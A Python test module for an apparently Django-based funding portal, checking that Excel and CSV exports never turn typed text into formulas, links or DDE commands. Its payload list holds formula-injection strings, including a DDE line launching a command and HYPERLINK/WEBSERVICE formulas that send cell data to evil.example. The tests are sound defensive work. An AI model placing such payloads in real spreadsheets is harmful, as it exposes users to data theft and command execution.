"""Whatever somebody typed, no cell of an export becomes a formula, a link, or a command: read back with openpyxl, and with
LibreOffice where it is installed.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from funding.applications import exports
from funding.applications.models import Answer, Application
from funding.calls.models import Question
from funding.reviews.models import Reviewer
from incubator.organisations.models import Organisation
from park_portal.core.accounts.models import User
from park_portal.core.admin import bulk
from park_portal.core.admin.bulk import Refused, Tally
from park_portal.core.jobs.excel import Column, write_rows
from park_portal.core.ledger.files import journal_as_file, statement_as_excel
from park_portal.core.ledger.models import Account
from park_portal.core.ledger.services import journal_of, statement_of
from tests.factories import make
from tests.factories.applications import make_application, make_call
from tests.factories.core import make_staff

ROOT = Path(__file__).resolve().parents[3]
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
WICKED = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "%0A=1+1",
    "=\u202e1",
    "http://evil.example/",
    "mailto:a@evil.example",
    "external:c:\\x.xlsx",
    "internal:Sheet1!A1",
    "=1" + "0" * 40_000,
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><f>1+1</f>",
    "007",
    "1e5",
    "TRUE",
    "#REF!",
]
# All that PostgreSQL keeps: no NUL, no half of a pair.
TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1, max_size=80)
RISKY = st.one_of(
    st.sampled_from(WICKED), TEXT, st.tuples(st.sampled_from("=+-@\t\r|%'\"{"), TEXT).map("".join)
)


def cells_with_formulas(path: Path) -> list[str]:
    """Return every cell that is more than text, number, date or nothing."""
    book = openpyxl.load_workbook(path)
    wrong = [
        f"{cell.coordinate}: {cell.data_type} {cell.value!r}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type not in ("s", "n", "d", "inlineStr") or cell.hyperlink is not None
    ]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            # Not only what openpyxl takes for a formula: no such element at all, nothing that reaches elsewhere.
            text = archive.read(name).decode()
            if name.startswith("xl/worksheets/") and re.search(r"<f[\s>/]|<hyperlink|<dde", text):
                wrong.append(f"{name}: {text[:200]}")
            if "ddeLink" in text or 'TargetMode="External"' in text or "externalLink" in name:
                wrong.append(f"{name} reaches elsewhere")
    return wrong


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(head=RISKY, texts=st.lists(RISKY, min_size=1, max_size=12))
@example(head="=1+1", texts=WICKED)
def test_no_text_becomes_a_formula(tmp_path, head, texts):
    path = tmp_path / "a.xlsx"
    write_rows(path, [Column(head, str, 10), Column("b", lambda text: Lazy(text))], texts)
    assert cells_with_formulas(path) == []
    first = [row[0] for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
    assert [plain(text) for text in first] == [plain(text[:32_767]) for text in texts]


class Lazy:
    """Something that is no text and reads like one."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def plain(text: str | None) -> str:
    """Leave out what XML cannot hold, or spells in its own way: ends of lines, control characters and their escapes."""
    text = re.sub(r"_(x[0-9A-Fa-f]{4}_)+", "", text or "")
    return re.sub(r"[\x00-\x1f\x7f-\x9f\ufffe\uffff\s]", "", text)


@pytest.fixture(scope="module")
def every_export() -> set[str]:
    """The names of all functions that write a sheet: a new one must be tried here, too."""
    found = set()
    for storey in ("park_portal", "incubator", "funding"):
        for path in (ROOT / storey).rglob("*.py"):
            text = path.read_text()
            if re.search(r"\bexport_rows\(|\bwrite_rows\(", text) and path.name != "excel.py":
                found.add(str(path.relative_to(ROOT)))
            assert "csv.writer" not in text, f"{path} writes CSV: no cell of it may begin like a formula"
            assert "DictWriter" not in text, path
            assert "write_formula" not in text, path
            if path.name != "excel.py":
                assert "xlsxwriter" not in text, f"{path}: write sheets by park_portal.core.jobs.excel"
            if path.name != "workbook.py":
                assert "openpyxl" not in text, f"{path}: openpyxl takes what begins with = for a formula"
    return found


def test_every_export_of_the_portal_is_tried_here(every_export):
    assert every_export == {
        "park_portal/core/admin/bulk.py",
        "funding/applications/exports.py",
        "funding/reviews/admin/plan_records.py",
        "park_portal/core/ledger/files.py",
    }


@pytest.fixture
def into(tmp_path, monkeypatch):
    """Has the exports write to one path, past the store, and returns it."""
    path = tmp_path / "export.xlsx"

    def write(columns, rows, progress, *, name, total=None, sheet=""):
        write_rows(path, columns, rows, sheet=sheet)

    monkeypatch.setattr(exports, "export_rows", write)
    monkeypatch.setattr(bulk, "export_rows", write)
    return path


@pytest.mark.django_db
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(RISKY.map(lambda text: text[:120]), min_size=6, max_size=6))
@example(texts=WICKED[:6])
@example(texts=WICKED[6:12])
def test_no_answer_of_an_application_becomes_one(into, texts):
    title, name, answer, item, label, unsuitable = texts
    application = Application.objects.first() or make_application(make_call())
    Application.objects.update(title=title)
    Organisation.objects.update(name_zh_hans=name, name_en=name)
    Question.objects.filter(key="abstract").update(label_zh_hans=label, label_en=label)
    answers = Answer.objects.filter(application=application)
    answers.filter(question__question__key="abstract").update(value=answer)
    answers.filter(question__question__key="title").update(value=unsuitable)
    answers.filter(question__question__key="budget").update(value=[{"item": item, "amount": 100}])
    exports.export_applications([application.pk], None)
    assert cells_with_formulas(into) == []
    held = "".join(
        plain(str(value)) for row in openpyxl.load_workbook(into).active.values for value in row if value
    )
    for text in (title, answer, item, unsuitable):
        assert plain(text) in held


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(label=RISKY, reason=RISKY)
def test_no_refusal_of_an_act_on_many_records_becomes_one(into, monkeypatch, label, reason):
    """The list of what an act could not do: names of records, and reasons that quote what was typed."""
    act = SimpleNamespace(make_form=lambda *args: SimpleNamespace(is_valid=lambda: True, cleaned_data={}))
    record = SimpleNamespace(act=lambda *args, **kwargs: act, rows_for=lambda user: None)
    monkeypatch.setattr(bulk.admin.site, "_registry", {User: record})
    monkeypatch.setattr(bulk, "carry_out", lambda *args, **kwargs: Tally([], [Refused(1, label, reason)]))
    params = {"model": "core.user", "act": "x", "form": {}, "keys": [1]}
    bulk.act_on_many(SimpleNamespace(params=params, owner=object()), None)
    assert cells_with_formulas(into) == []


@pytest.mark.django_db
def test_no_name_in_an_assignment_becomes_one(client, tmp_path):
    client.force_login(make_staff("officer"))
    pair = make("funding.PlannedPair")
    title, name, institution = WICKED[:3]
    Application.objects.update(title=title)
    User.objects.filter(pk=pair.person_id).update(name=name)
    Reviewer.objects.update(institution=institution)
    path = tmp_path / "plan.xlsx"
    page = reverse("admin:funding_assignmentplan_export", args=[pair.plan_id])
    path.write_bytes(client.get(page).content)
    assert cells_with_formulas(path) == []
    (row,) = openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)
    assert (row[1], row[2], row[4]) == (title, name, institution)


@pytest.mark.django_db
def test_no_memo_of_a_transfer_becomes_one(tmp_path):
    """Statements and journals, as Excel and as CSV, which a spreadsheet would take formulas from as well."""
    today = timezone.localdate()
    transfer = make("core.Transfer", memo=WICKED[0])
    Account.objects.filter(pk=transfer.credit_id).update(label=WICKED[1])
    for kind in (transfer.debit.kind, transfer.credit.kind):
        make("core.AccountCode", kind=kind, code=kind, name=WICKED[2])
    statement = statement_of(transfer.debit, since=today, until=today)
    journal = journal_of(transfer.debit.book, since=today, until=today)
    for content in (statement_as_excel(statement), journal_as_file(journal, "xlsx")[0]):
        path = tmp_path / "money.xlsx"
        path.write_bytes(content)
        assert cells_with_formulas(path) == []
    rows = list(csv.reader(io.StringIO(journal_as_file(journal, "csv")[0].decode("utf-8-sig"))))
    assert [cell for row in rows for cell in row if cell[:1] in {*"=+-@\t\r"} and cell] == []


if OFFICE is not None:  # where there is one

    def test_libreoffice_finds_none_either(tmp_path):
        write_rows(tmp_path / "a.xlsx", [Column("=1+1", str, 10)], WICKED)
        subprocess.run(
            [
                str(OFFICE),
                f"-env:UserInstallation=file://{tmp_path}/profile",
                "--headless",
                "--convert-to",
                "fods",
                "a.xlsx",
            ],
            cwd=tmp_path,
            check=True,
            capture_output=True,
            timeout=120,
        )
        text = (tmp_path / "a.fods").read_text()
        assert "table:formula" not in text
        assert 'office:value-type="string"' in text
